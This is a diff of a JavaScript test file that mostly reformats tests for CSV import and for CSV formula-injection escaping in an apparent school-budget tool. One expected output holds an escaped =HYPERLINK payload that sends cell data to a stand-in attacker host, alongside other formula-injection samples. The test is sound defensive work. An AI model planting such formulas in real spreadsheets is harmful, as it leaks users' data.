@@ -6,7 +6,8 @@ import { baseInput } from './helpers.js';
 
 describe('units from CSV', () => {
   it('reads Norwegian headers, semicolons, decimal commas and two school years', () => {
-    const csv = 'id;navn;trinn;elever_1;elever_2;minoritetsspraklige;budsjett\neide;Eide;barnetrinn;120;126;0;5 700 000\nfjaere-u;Fjære U;ungdomstrinn;309;309;2,5;\n';
+    const csv =
+      'id;navn;trinn;elever_1;elever_2;minoritetsspraklige;budsjett\neide;Eide;barnetrinn;120;126;0;5 700 000\nfjaere-u;Fjære U;ungdomstrinn;309;309;2,5;\n';
     const r = unitsFromCsv(csv);
     expect(r.ok).toBe(true);
     if (!r.ok) return;
@@ -15,7 +16,10 @@ describe('units from CSV', () => {
       name: 'Eide',
       stage: 'barnetrinn',
       currentBudget: 5700000,
-      schoolYears: [{ pupils: 120, minorityPupils: 0 }, { pupils: 126, minorityPupils: 0 }],
+      schoolYears: [
+        { pupils: 120, minorityPupils: 0 },
+        { pupils: 126, minorityPupils: 0 },
+      ],
     });
     expect(r.units[1]!.schoolYears![0]!.minorityPupils).toBe(2.5);
   });
@@ -54,7 +58,8 @@ describe('CSV writing (formula injection)', () => {
     const rows = csv.trimEnd().split('\n');
     expect(rows[0]).toBe('enhet_id;enhet;trinn;elever;kriterium;belop;per_elev');
     // No cell (between separators, quotes left aside) starts a formula; a negative number stays a number.
-    for (const line of rows) for (const cell of line.split(';')) expect(cell.replace(/^"/, '')).not.toMatch(/^([=+@\t\r]|-(?!\d+(\.\d+)?$))/);
+    for (const line of rows)
+      for (const cell of line.split(';')) expect(cell.replace(/^"/, '')).not.toMatch(/^([=+@\t\r]|-(?!\d+(\.\d+)?$))/);
     expect(csv).toContain(`a;"'=HYPERLINK(""https://angriper.example/?d=""&A1;""Klikk"")";barnetrinn;100;perPupil;`);
     expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;'+minority;");
     expect(csv).toContain("'-2+3;'@SUM(1+1);ungdomstrinn;200;justeringer;-5100000;\n");
@@ -68,7 +73,12 @@ describe('CSV writing (formula injection)', () => {
     expect(csvCell('Eide skole')).toBe('Eide skole');
     expect(csvCell('a;b')).toBe('"a;b"');
     expect(csvCell(null)).toBe('');
-    expect(toCsv([['x', 1], ['=y', null]])).toBe("x;1\n'=y;\n");
+    expect(
+      toCsv([
+        ['x', 1],
+        ['=y', null],
+      ]),
+    ).toBe("x;1\n'=y;\n");
   });
 });
 
